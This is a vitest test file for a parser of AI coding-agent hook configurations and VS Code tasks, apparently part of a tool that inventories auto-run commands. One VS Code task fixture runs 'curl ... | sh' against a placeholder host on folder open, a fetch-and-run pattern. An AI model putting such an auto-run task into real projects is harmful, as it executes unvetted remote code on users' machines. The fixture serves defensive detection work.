/**
 * Hook and helper-command hosts (hooks-and-instructions.md §0.1, §0.3): each file's commands with event, matcher,
 * shell or exec form, and spans that hold exactly the command's text.
 */
import { describe, expect, it } from 'vitest';
import { claudeSettings } from '../src/hosts/claude-settings.js';
import { codex } from '../src/hosts/codex.js';
import { codexHooks } from '../src/hosts/codex-hooks.js';
import { copilotHooks } from '../src/hosts/copilot-hooks.js';
import { cursorHooks } from '../src/hosts/cursor-hooks.js';
import { gemini } from '../src/hosts/gemini.js';
import type { Host } from '../src/hosts/host.js';
import { hosts } from '../src/hosts/index.js';
import { kiroHooks } from '../src/hosts/kiro-hooks.js';
import { pluginHooks } from '../src/hosts/plugin-hooks.js';
import { vscodeTasks } from '../src/hosts/vscode-tasks.js';
import { windsurfHooks } from '../src/hosts/windsurf-hooks.js';
import type { Command, ConfigFile } from '../src/model/types.js';
import { parseAs } from './hosts-helpers.js';

/** What a command is, in one line per command: role, label, event/matcher, form, and the text at each span. */
function view(file: ConfigFile) {
  const at = (s: { span: { start: number; end: number } }) => file.source.text.slice(s.span.start, s.span.end);
  return (file.commands ?? []).map((c: Command) => ({
    role: c.role, name: c.name, event: c.event?.value, matcher: c.matcher?.value, shell: c.shell,
    command: c.command!.value, commandText: at(c.command!), args: c.args.map((a) => a.value), env: c.env.map((e) => `${e.key}=${e.value.value}`),
    ...(c.cwd ? { cwd: c.cwd.value } : {}),
  }));
}

const CLAUDE = `{
  "hooks": {
    "PostToolUse": [
      { "matcher": "Write|Edit", "hooks": [
        { "type": "command", "command": "npx -y prettier@latest --write \\"$FILE\\"" },
        { "type": "command", "command": "node", "args": ["\${CLAUDE_PROJECT_DIR}/.claude/hooks/log.js"] },
        { "type": "http", "url": "https://hooks.example.invalid/x" }
      ] }
    ],
    "Stop": [ { "hooks": [ { "type": "prompt", "prompt": "done?" } ] } ]
  },
  "statusLine": { "type": "command", "command": "~/.claude/statusline.sh" },
  "apiKeyHelper": "/usr/local/bin/fetch-key",
  "permissions": { "allow": ["Read"] }
}`;

describe('hook hosts: model', () => {
  it('Claude Code settings: command hooks in shell and exec form, status line and helpers; http and prompt hooks run nothing local', () => {
    const file = parseAs(claudeSettings, CLAUDE, '/r/.claude/settings.json');
    expect(view(file)).toEqual([
      { role: 'hook', name: 'PostToolUse hook', event: 'PostToolUse', matcher: 'Write|Edit', shell: true, command: 'npx -y prettier@latest --write "$FILE"', commandText: '"npx -y prettier@latest --write \\"$FILE\\""', args: [], env: [] },
      { role: 'hook', name: 'PostToolUse hook', event: 'PostToolUse', matcher: 'Write|Edit', shell: false, command: 'node', commandText: '"node"', args: ['${CLAUDE_PROJECT_DIR}/.claude/hooks/log.js'], env: [] },
      { role: 'status line', name: '"statusLine" status line', event: undefined, matcher: undefined, shell: true, command: '~/.claude/statusline.sh', commandText: '"~/.claude/statusline.sh"', args: [], env: [] },
      { role: 'helper', name: '"apiKeyHelper" helper', event: undefined, matcher: undefined, shell: true, command: '/usr/local/bin/fetch-key', commandText: '"/usr/local/bin/fetch-key"', args: [], env: [] },
    ]);
    expect(file.problems).toEqual([]);
  });

  it('a malformed hook entry is skipped, the rest is read, and the file stays valid', () => {
    const file = parseAs(claudeSettings, '{ "hooks": { "PreToolUse": [ 3, { "hooks": [ { "command": 7 }, { "command": "./a.sh" } ] } ], "Stop": {} } }', '/r/.claude/settings.json');
    expect(view(file).map((c) => c.command)).toEqual(['./a.sh']);
    expect(file.problems).toEqual([]);
  });

  it('Cursor: flat hooks with a command each', () => {
    const file = parseAs(cursorHooks, '{ "version": 1, "hooks": { "afterFileEdit": [ { "command": "npx prettier@3.3.3 --write" } ], "stop": [ { "command": "./.cursor/hooks/stop.sh", "timeout": 5 } ] } }', '/r/.cursor/hooks.json');
    expect(view(file).map((c) => [c.event, c.command, c.shell])).toEqual([['afterFileEdit', 'npx prettier@3.3.3 --write', true], ['stop', './.cursor/hooks/stop.sh', true]]);
  });

  it('Copilot: bash and powershell lines are two commands, with cwd and env; exec is started without a shell', () => {
    const file = parseAs(copilotHooks, '{ "version": 1, "hooks": { "preToolUse": [ { "type": "command", "bash": "./scripts/guard.sh", "powershell": "./scripts/guard.ps1", "cwd": "scripts", "env": { "MODE": "strict" }, "timeoutSec": 10 } ], "sessionStart": [ { "type": "command", "exec": "node", "args": ["s.js"] }, { "type": "prompt", "prompt": "/plan" } ] } }', '/r/.github/hooks/guard.json');
    expect(view(file).map((c) => [c.event, c.command, c.shell, c.args, c.env, c.cwd])).toEqual([
      ['preToolUse', './scripts/guard.sh', true, [], ['MODE=strict'], 'scripts'],
      ['preToolUse', './scripts/guard.ps1', true, [], ['MODE=strict'], 'scripts'],
      ['sessionStart', 'node', false, ['s.js'], [], undefined],
    ]);
  });

  it('Codex hooks.json, Gemini CLI settings and plugin hooks/hooks.json: the nested shape', () => {
    const nested = '{ "hooks": { "BeforeTool": [ { "matcher": "run_shell_command", "hooks": [ { "type": "command", "command": "python3 .gemini/hooks/check.py" } ] } ] } }';
    for (const [host, path] of [[codexHooks, '/r/.codex/hooks.json'], [gemini, '/r/.gemini/settings.json'], [pluginHooks, '/r/plugin/hooks/hooks.json']] as [Host, string][]) {
      expect(view(parseAs(host, nested, path)).map((c) => [c.event, c.matcher, c.command]), host.name).toEqual([['BeforeTool', 'run_shell_command', 'python3 .gemini/hooks/check.py']]);
    }
  });

  it('Codex config.toml: notify is an argv started without a shell; [hooks] tables are shell commands', () => {
    const text = 'notify = ["python3", ".codex/notify.py"]\n\n[[hooks.PostToolUse]]\nmatcher = "shell"\n\n[[hooks.PostToolUse.hooks]]\ntype = "command"\ncommand = "npx -y prettier --write"\n';
    const file = parseAs(codex, text, '/r/.codex/config.toml');
    expect(view(file).map((c) => [c.role, c.event, c.matcher, c.command, c.commandText, c.args, c.shell])).toEqual([
      ['notify', undefined, undefined, 'python3', '"python3"', ['.codex/notify.py'], false],
      ['hook', 'PostToolUse', 'shell', 'npx -y prettier --write', '"npx -y prettier --write"', [], true],
    ]);
  });

  it('Windsurf and Kiro (v1 and legacy): commands; agent actions run none', () => {
    expect(view(parseAs(windsurfHooks, '{ "hooks": { "pre_run_command": [ { "command": "python3 .windsurf/guard.py", "show_output": true } ] } }', '/r/.windsurf/hooks.json')).map((c) => [c.event, c.command]))
      .toEqual([['pre_run_command', 'python3 .windsurf/guard.py']]);
    const v1 = '{ "version": "v1", "hooks": [ { "name": "lint", "trigger": "PostFileSave", "matcher": "\\\\.ts$", "action": { "type": "command", "command": "npm run -s lint" } }, { "name": "ask", "trigger": "Stop", "action": { "type": "agent", "prompt": "check" } } ] }';
    expect(view(parseAs(kiroHooks, v1, '/r/.kiro/hooks/lint.json')).map((c) => [c.event, c.matcher, c.command])).toEqual([['PostFileSave', '\\.ts$', 'npm run -s lint']]);
    const legacy = '{ "enabled": true, "name": "fmt", "when": { "type": "fileEdited", "patterns": ["*.ts"] }, "then": { "type": "runCommand", "command": "npx prettier --write" } }';
    expect(view(parseAs(kiroHooks, legacy, '/r/.kiro/hooks/fmt.kiro.hook')).map((c) => [c.event, c.command])).toEqual([['fileEdited', 'npx prettier --write']]);
  });

  it('VS Code tasks: only tasks that run on folder open, shell tasks with their args, process tasks without a shell', () => {
    const text = '{ "version": "2.0.0", "tasks": [ { "label": "build", "type": "shell", "command": "make" }, { "label": "setup", "type": "shell", "command": "curl", "args": ["-fsSL", "https://x.invalid/i.sh", "|", "sh"], "runOptions": { "runOn": "folderOpen" } }, { "label": "watch", "type": "process", "command": "node", "args": ["w.js"], "options": { "cwd": "tools", "env": { "PORT": "8080" } }, "runOptions": { "runOn": "folderOpen" } } ] }';
    expect(view(parseAs(vscodeTasks, text, '/r/.vscode/tasks.json')).map((c) => [c.name, c.command, c.args, c.shell, c.cwd, c.env])).toEqual([
      ['"setup" task', 'curl', ['-fsSL', 'https://x.invalid/i.sh', '|', 'sh'], true, undefined, []],
      ['"watch" task', 'node', ['w.js'], false, 'tools', ['PORT=8080']],
    ]);
  });

  it('each hook file is claimed by exactly one host', () => {
    const paths = ['.cursor/hooks.json', '.codex/hooks.json', '.github/hooks/hooks.json', '.github/hooks/guard.json', '.windsurf/hooks.json', '.kiro/hooks/a.json', '.kiro/hooks/a.kiro.hook', 'plugins/fmt/hooks/hooks.json', 'hooks/hooks.json', '.vscode/tasks.json'];
    expect(paths.map((p) => hosts.filter((h) => h.matches(p)).map((h) => h.name))).toEqual([
      ['Cursor hooks'], ['Codex hooks'], ['Copilot hooks'], ['Copilot hooks'], ['Windsurf hooks'], ['Kiro hooks'], ['Kiro hooks'], ['plugin hooks'], ['plugin hooks'], ['VS Code tasks'],
    ]);
  });
});
